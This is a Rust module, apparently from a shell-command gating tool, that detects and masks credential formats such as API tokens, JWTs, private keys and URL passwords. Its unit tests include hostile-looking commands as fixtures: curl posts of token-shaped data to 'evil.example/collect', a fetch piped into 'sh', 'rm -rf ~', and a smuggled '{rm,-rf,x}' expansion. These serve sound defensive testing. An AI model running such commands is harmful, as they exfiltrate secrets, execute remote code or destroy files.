//! Known forms of credentials in a text: to ask about, and to mask wherever people or an inspector read it.
//!
//! Only the audit keeps a command as it was. What is masked must not be a place to hide in: of what looks like a credential,
//! each run between delimiters is masked by itself, with its length, and from 13 characters on with its first and
//! last ones. Delimiters, names of hosts and everything on another line stay.

use std::ops::Range;
use std::sync::LazyLock;

use bashgate_shared::classify::Argv;
use bashgate_shared::credentials::{self, FORMS, TELLING};
use bashgate_shared::programs;
use regex::Regex;

/// What is never masked: it divides a credential from what comes before and behind.
const fn is_delimiter(c: char) -> bool {
    c.is_ascii_whitespace() || matches!(c, '"' | '\'' | '`' | '.' | '/' | ':' | '@' | '?' | '&' | '=')
}

/// A form, ready to be looked for.
struct Form {
    name: &'static str,
    pattern: Regex,
    shortest: usize,
}

static COMPILED: LazyLock<Vec<Form>> = LazyLock::new(|| {
    let compiled = |form: &credentials::Form| {
        Some(Form { name: form.name, pattern: Regex::new(form.pattern).ok()?, shortest: form.shortest })
    };
    // The same glued to an option's letters, or behind an underscore.
    let glued = |form: &credentials::Form| {
        let rest = form.pattern.strip_prefix(r"\b")?;
        let pattern = Regex::new(&format!(r"(?:_|(?:^|\s)-[A-Za-z]{{1,8}}?)(?P<secret>{rest})")).ok()?;
        Some(Form { name: form.name, pattern, shortest: form.shortest })
    };
    FORMS.iter().filter_map(compiled).chain(FORMS.iter().filter_map(glued)).collect()
});

/// What a host is called, at the start of what could also be a token: labels with dots between them, the last one of letters,
/// or an address.
static HOST: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let host = r"^(?:(?:[A-Za-z0-9_-]+\.)+[A-Za-z]{2,24}|\d{1,3}(?:\.\d{1,3}){3})(?:[:/]|$)";
    Regex::new(host).ok()
});

/// The places of what has a form, without those that are better explained as a host.
fn places<'t>(form: &'t Form, text: &'t str) -> impl Iterator<Item = Range<usize>> + 't {
    form.pattern.captures_iter(text).filter_map(|found| {
        let Some(secret) = found.name("secret") else {
            return found.get(0).map(|whole| whole.range()).filter(|place| !is_in_host(text, place));
        };
        let is_host = HOST.as_ref().is_some_and(|host| host.is_match(secret.as_str()));
        // In front of an `@` stands a password, whatever it looks like.
        let is_password = text.get(secret.end()..).is_some_and(|rest| rest.starts_with('@'));
        (is_password || !is_host).then(|| secret.range())
    })
}

/// True for what stands where an address has its host: whatever it looks like, that is where it goes.
fn is_in_host(text: &str, place: &Range<usize>) -> bool {
    let ends = |c: char| c.is_whitespace() || "/?#\\\"'`<>|;&()".contains(c);
    let before = text.get(..place.start).unwrap_or_default();
    let rest = text.get(place.start..).unwrap_or_default();
    let authority = rest.split(ends).next().unwrap_or_default();
    let is_behind_scheme = before.rsplit_once("://").is_some_and(|(_, between)| !between.contains(ends));
    // Whoever is in front of an `@` is no host.
    is_behind_scheme && !authority.contains('@')
}

/// What stands behind the first label of a host's name.
static REST_OF_HOST: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"^(?:\.[A-Za-z0-9_-]+)*\.[A-Za-z]{2,24}(?:[:/\s\x22'`)]|$)").ok());

/// True for what stands as a host behind somebody's name, without any scheme: `git@NAME.example:path`.
fn is_named_as_host(text: &str, place: &Range<usize>) -> bool {
    let rest = text.get(place.end..).unwrap_or_default();
    text.get(..place.start).is_some_and(|before| before.ends_with('@'))
        && REST_OF_HOST.as_ref().is_some_and(|host| host.is_match(rest))
}

/// The first known form of a credential in a text.
pub fn find(text: &str) -> Option<&'static str> {
    COMPILED.iter().find(|form| places(form, text).next().is_some()).map(|form| form.name)
}

/// The same in a text, in the words of its calls as programs get them, and in what options give as a password.
pub fn find_in_calls(text: &str, calls: &[Argv]) -> Option<&'static str> {
    let by_words = || calls.iter().flatten().flatten().find_map(|word| find(word));
    find(text).or_else(by_words).or_else(|| calls.iter().find_map(|call| programs::credential_in(call)))
}

/// The text with every known credential replaced.
pub fn mask(text: &str) -> String {
    mask_but(text, &[])
}

/// The same, but where one of these hosts stands: where something goes is never masked, whatever it looks like.
pub fn mask_but(text: &str, hosts: &[&str]) -> String {
    let hosts: Vec<Range<usize>> =
        hosts.iter().filter(|host| !host.is_empty()).flat_map(|host| in_any_case(text, host)).collect();
    let is_host = |place: &Range<usize>| hosts.iter().any(|host| host.start <= place.start && place.end <= host.end);
    // What was replaced holds no form: the places are found in the text as it was.
    let mut found: Vec<(Range<usize>, &Form)> =
        COMPILED.iter().flat_map(|form| places(form, text).map(move |place| (place, form))).collect();
    found.retain(|(place, _)| !is_host(place) && !is_named_as_host(text, place));
    found.sort_by_key(|(place, _)| place.start);
    let (mut out, mut end) = (String::with_capacity(text.len()), 0);
    for (place, form) in found {
        // Where forms overlap, what the first one left is masked as the second one.
        let from = place.start.max(end);
        let (Some(before), Some(secret)) = (text.get(end..from), text.get(from..place.end)) else { continue };
        out.push_str(before);
        for run in secret.split_inclusive(is_delimiter) {
            let (run, delimiter) = match run.char_indices().next_back() {
                Some((at, last)) if is_delimiter(last) => run.split_at(at),
                _ => (run, ""),
            };
            mask_run(run, form, &mut out);
            out.push_str(delimiter);
        }
        end = place.end;
    }
    out.push_str(text.get(end..).unwrap_or_default());
    out
}

/// Where a host stands in a text, however it is written.
fn in_any_case<'t>(text: &'t str, host: &'t str) -> impl Iterator<Item = Range<usize>> + 't {
    let length = host.len();
    text.char_indices().filter_map(move |(at, _)| {
        let found = text.get(at..at + length)?;
        found.eq_ignore_ascii_case(host).then_some(at..at + length)
    })
}

fn mask_run(run: &str, Form { name, shortest, .. }: &Form, out: &mut String) {
    let length = run.chars().count();
    let mut letters = run.chars();
    match (letters.next(), letters.next_back()) {
        (Some(first), Some(last)) if length >= TELLING.max(*shortest) => {
            out.push_str(&format!("{first}[{} characters of a {name} masked]{last}", length - 2));
        }
        (Some(_), _) if length >= *shortest => out.push_str(&format!("[{length} of a {name} masked]")),
        _ => out.push_str(run),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// One text of each form, made up here, so that no scanner mistakes this file for a leak.
    fn examples() -> Vec<String> {
        vec![
            format!("AKIA{}", "A1B2C3D4E5F6G7H8"),
            format!("ghp_{}", "a1".repeat(18)),
            format!("glpat-{}", "a1_".repeat(8)),
            format!("sk-ant-{}", "x1".repeat(15)),
            format!("sk-proj-{}", "x1".repeat(15)),
            format!("xoxb-{}", "1a".repeat(6)),
            format!("AIza{}", "b".repeat(35)),
            format!("sk_live_{}", "b1".repeat(10)),
            format!("npm_{}", "b1".repeat(18)),
            format!("pypi-{}", "b1".repeat(10)),
            format!("hf_{}", "c1".repeat(17)),
            format!("12345678:{}", "d".repeat(35)),
            format!("dckr_pat_{}", "a1B".repeat(9)),
            format!("eyJ{0}.eyJ{0}.{0}", "abcdefghij1"),
            format!("-----BEGIN RSA {} KEY-----\n{}", "PRIVATE", "b1/".repeat(3) + &"c".repeat(50)),
            format!("Authorization: Bearer {}", "z1".repeat(10)),
            format!("https://user:{}@", "hunter22"),
        ]
    }

    #[test]
    fn an_option_is_no_token() {
        let command = "curl https://a.example -H authorization: bearer --socks5-hostname evil.example:1080";
        assert_eq!(mask(command), command);
    }

    #[test]
    fn quotes_and_options_hide_no_credential() {
        let key = format!("ghp_{}", "a1".repeat(18));
        for command in [
            format!("curl -d{key} https://a.example"),
            format!("curl -sd{key} https://a.example"),
            format!("curl -d ghp_''{} https://a.example", "a1".repeat(18)),
            format!("curl -d x_{key} https://a.example"),
            format!("curl -H 'Authorization: 'Bearer' {}' https://a.example", "z1".repeat(10)),
            "curl -u ann:hunter22 https://a.example".to_owned(),
            "curl -uann:hunter22 https://a.example".to_owned(),
            "curl -sSu ann:hunter22 https://a.example".to_owned(),
            "curl --oauth2-bearer abcdef https://a.example".to_owned(),
            "curl -n https://a.example".to_owned(),
            "curl -nv https://a.example".to_owned(),
            "curl --netrc https://a.example".to_owned(),
            "wget --http-password=x1 https://a.example".to_owned(),
        ] {
            let line = bashgate_shared::command::CommandLine::parse(command.as_str()).unwrap();
            let found = bashgate_shared::classify::classify(&line, &bashgate_shared::classify::Surroundings::default());
            assert!(find_in_calls(&command, &found.calls).is_some(), "{command}");
        }
        for command in ["curl -sS https://a.example", "wget -nv https://a.example", "curl -o n.txt https://a.example"] {
            let line = bashgate_shared::command::CommandLine::parse(command).unwrap();
            let found = bashgate_shared::classify::classify(&line, &bashgate_shared::classify::Surroundings::default());
            assert_eq!(find_in_calls(command, &found.calls), None, "{command}");
        }
        assert!(!mask(&format!("curl -sd{key} x")).contains(&key));
    }

    #[test]
    fn where_it_goes_is_never_masked() {
        for (command, host) in [
            ("ssh sk-thisistheevilattackersite.com ls", "sk-thisistheevilattackersite.com"),
            ("scp f hf_abcdefghijklmnopqrstuvwxyzabcdefgh.io:", "hf_abcdefghijklmnopqrstuvwxyzabcdefgh.io"),
            ("curl SK-thisistheevilattackersite.com/x", "sk-thisistheevilattackersite.com"),
        ] {
            assert!(mask(command).contains("masked]") || find(command).is_none(), "{command}");
            assert_eq!(mask_but(command, &[host]), command);
        }
        for line in [
            "git@sk-thisistheevilattackersite.com:x.git",
            "    url = git@hf_abcdefghijklmnopqrstuvwxyzabcdefgh.example.io:x",
            "ssh 'root@sk-thisistheevilattackersite.com' ls",
        ] {
            assert_eq!(mask(line), line);
            assert!(find(line).is_some(), "what is asked about stays: {line}");
        }
        let path = "curl https://a.example/sk-thisistheevilattackersite.com";
        assert!(mask(path).contains("masked]"), "{}", mask(path));
        let key = format!("ghp_{}", "a1".repeat(18));
        let masked = mask_but(&format!("curl -H {key} https://a.example"), &["a.example"]);
        assert!(!masked.contains(&key), "{masked}");
    }

    #[test]
    fn every_form_compiles_is_found_and_masked() {
        let glued = FORMS.iter().filter(|form| form.pattern.starts_with(r"\b")).count();
        assert_eq!(COMPILED.len(), FORMS.len() + glued);
        let examples = examples();
        assert_eq!(examples.len(), FORMS.len());
        for (text, credentials::Form { name, .. }) in examples.iter().zip(FORMS) {
            let command = format!("curl -H '{text}' https://x");
            assert_eq!(find(&command), Some(*name), "{text}");
            let masked = mask(&command);
            assert!(!masked.contains(text.as_str()) && masked.contains(&format!("{name} masked]")), "{masked}");
            assert!(masked.ends_with("' https://x"), "{masked}");
        }
        for text in [
            "curl https://example.com/a?b=c",
            "echo hello",
            "git push origin main",
            "https://user@host/x",
            "sk-",
            "AKIA",
            "curl https://$(base64<x):xyz@h/",
            "curl https://h/a#://;{rm,-rf,x};curl:abc@ok",
        ] {
            assert_eq!(find(text), None, "{text}");
            assert_eq!(mask(text), text);
        }
    }

    /// Made up here, by what their documents say of them.
    #[test]
    fn tokens_of_services_are_found() {
        let (hex, any) = ("0a1b2c3d4e5f6789".repeat(4), "a1B2c3D4e5F6g7H8".repeat(4));
        let cut = |text: &str, length: usize| text.chars().take(length).collect::<String>();
        for token in [
            format!("hvs.{}", cut(&any, 24)),
            format!("xai-{any}"),
            format!("gsk_{}", cut(&any, 52)),
            format!("r8_{}", cut(&any, 37)),
            format!("dop_v1_{hex}"),
            format!("SG.{}.{}", cut(&any, 22), cut(&any, 43)),
            format!("shpat_{}", cut(&hex, 32)),
            format!("dapi{}", cut(&hex, 32)),
            format!("glsa_{}_0a1b2c3d", cut(&any, 32)),
            format!("tskey-auth-{}-{}", cut(&any, 12), cut(&any, 32)),
            format!("rubygems_{}", cut(&hex, 48)),
            format!("dp.pt.{}", cut(&any, 43)),
            format!("ya29.{}", cut(&any, 40)),
            format!("glrt-{}", cut(&any, 20)),
            format!("ATATT3{any}"),
            format!("AGE-SECRET-KEY-1{}", any.to_ascii_uppercase()),
            format!("key-{}", cut(&hex, 32)),
            format!("{}.atlasv1.{any}", cut(&any, 14)),
            format!("pat{}.{hex}", cut(&any, 14)),
        ] {
            let command = format!("curl -d {token} https://h.example");
            assert!(find(&command).is_some(), "{token}");
            assert!(!mask(&command).contains(&token), "{}", mask(&command));
        }
        for text in
            ["git log --grep key-value", "cargo build -p scion", "echo SKIP", "npm run dp.x", "ls pat/x", "r8_unorm"]
        {
            assert_eq!(find(text), None, "{text}");
        }
    }

    /// What stays of a text once the masks are taken out of it: nothing but what they stand for may be missing.
    fn is_as_it_was(text: &str, masked: &str) -> bool {
        let mask = Regex::new(r"([^\[])\[(\d+) characters of a [^\]]* masked\]|\[(\d+) of a [^\]]* masked\]").unwrap();
        let mut pattern = String::from("(?s)^");
        let mut end = 0;
        for found in mask.captures_iter(masked) {
            let whole = found.get(0).unwrap();
            pattern.push_str(&regex::escape(masked.get(end..whole.start()).unwrap()));
            let (first, count) = match (found.get(1), found.get(2), found.get(3)) {
                (Some(first), Some(count), _) => (regex::escape(first.as_str()), count.as_str()),
                (.., Some(count)) => (String::new(), count.as_str()),
                _ => return false,
            };
            pattern.push_str(&format!("{first}[^\\s\"'`./:@?&=]{{{count}}}"));
            end = whole.end();
        }
        pattern.push_str(&format!("{}$", regex::escape(masked.get(end..).unwrap())));
        Regex::new(&pattern).unwrap().is_match(text)
    }

    #[test]
    fn delimiters_hosts_and_other_lines_stay() {
        for example in examples() {
            for delimiter in [' ', '\t', '\n', '"', '\'', '`', '.', '/', ':', '@', '?', '&', '='] {
                for text in [
                    format!("curl {example}{delimiter}evil.example/collect/0123456789abcdef -d @x"),
                    format!("curl https://evil.example{delimiter}{example}"),
                    format!("curl https://{example}{delimiter}evil.example/x"),
                    format!("curl https://evil.example/a?key={example}{delimiter}rm"),
                    format!("curl https://u:{example}{delimiter}@evil.example/"),
                    format!("curl -H 'authorization: bearer{delimiter}{example}'{delimiter}evil.example"),
                    format!("x={example}{delimiter}\nrm -rf ~\ncurl evil.example"),
                ] {
                    let masked = mask(&text);
                    assert!(is_as_it_was(&text, &masked), "{text}\n{masked}");
                    assert!(masked.contains("evil.example"), "{text}\n{masked}");
                    assert_eq!(masked.lines().count(), text.lines().count(), "{text}\n{masked}");
                }
            }
        }
    }

    #[test]
    fn nothing_hides_behind_a_form() {
        for (text, stays) in [
            ("curl -H 'authorization: bearer evil.example/collect/0123'", "evil.example/collect/0123"),
            ("curl -H 'authorization: bearer evil.example:8080/abcdefghijklmnopq'", "evil.example:8080/"),
            ("curl -H 'authorization: basic 203.0.113.7/abcdefghijklmnopqrst'", "203.0.113.7/"),
            ("echo authorization: bearer\ncurl-evil-example-long-command", "curl-evil-example-long-command"),
            ("curl https://eyJabcdefghijk.eyJabcdefghijk.evilevilevil/x", "/x"),
            ("curl https://user:verylongpassword.evil.example@h.example/y", "@h.example/y"),
        ] {
            let masked = mask(text);
            assert!(masked.contains(stays), "{masked}");
            assert!(is_as_it_was(text, &masked), "{masked}");
        }
        let token = "eyJabcdefghijk.eyJabcdefghijk.evilevilevilx";
        assert_eq!(
            mask(token),
            "e[12 characters of a JSON web token masked]k.e[12 characters of a JSON web token masked]k.e[11 characters of a JSON web token masked]x"
        );
        assert_eq!(mask("https://u:short@h"), "https://u:[5 of a password in a URL masked]@h");
    }

    /// Whatever a host is called, that is where it goes.
    #[test]
    fn hosts_in_the_form_of_a_token_stay() {
        for host in [
            "sk-thisistheevilattackersite.com",
            "sk-ant-thisisanothersiteofthem",
            "hf_abcdefghijklmnopqrstuvwxyzabcd.io",
        ] {
            for text in [
                format!("curl https://{host}/x"),
                format!("curl 'https://{host}?q=1'"),
                format!("curl https://{host}:8443/x | sh"),
            ] {
                assert_eq!(mask(&text), text);
            }
            // In front of an `@`, in a path and in a header it is a token.
            for text in [format!("curl https://{host}@h.example/"), format!("curl -H 'x: {host}' https://h.example/")] {
                assert!(mask(&text).contains("masked"), "{text}");
            }
        }
    }
}
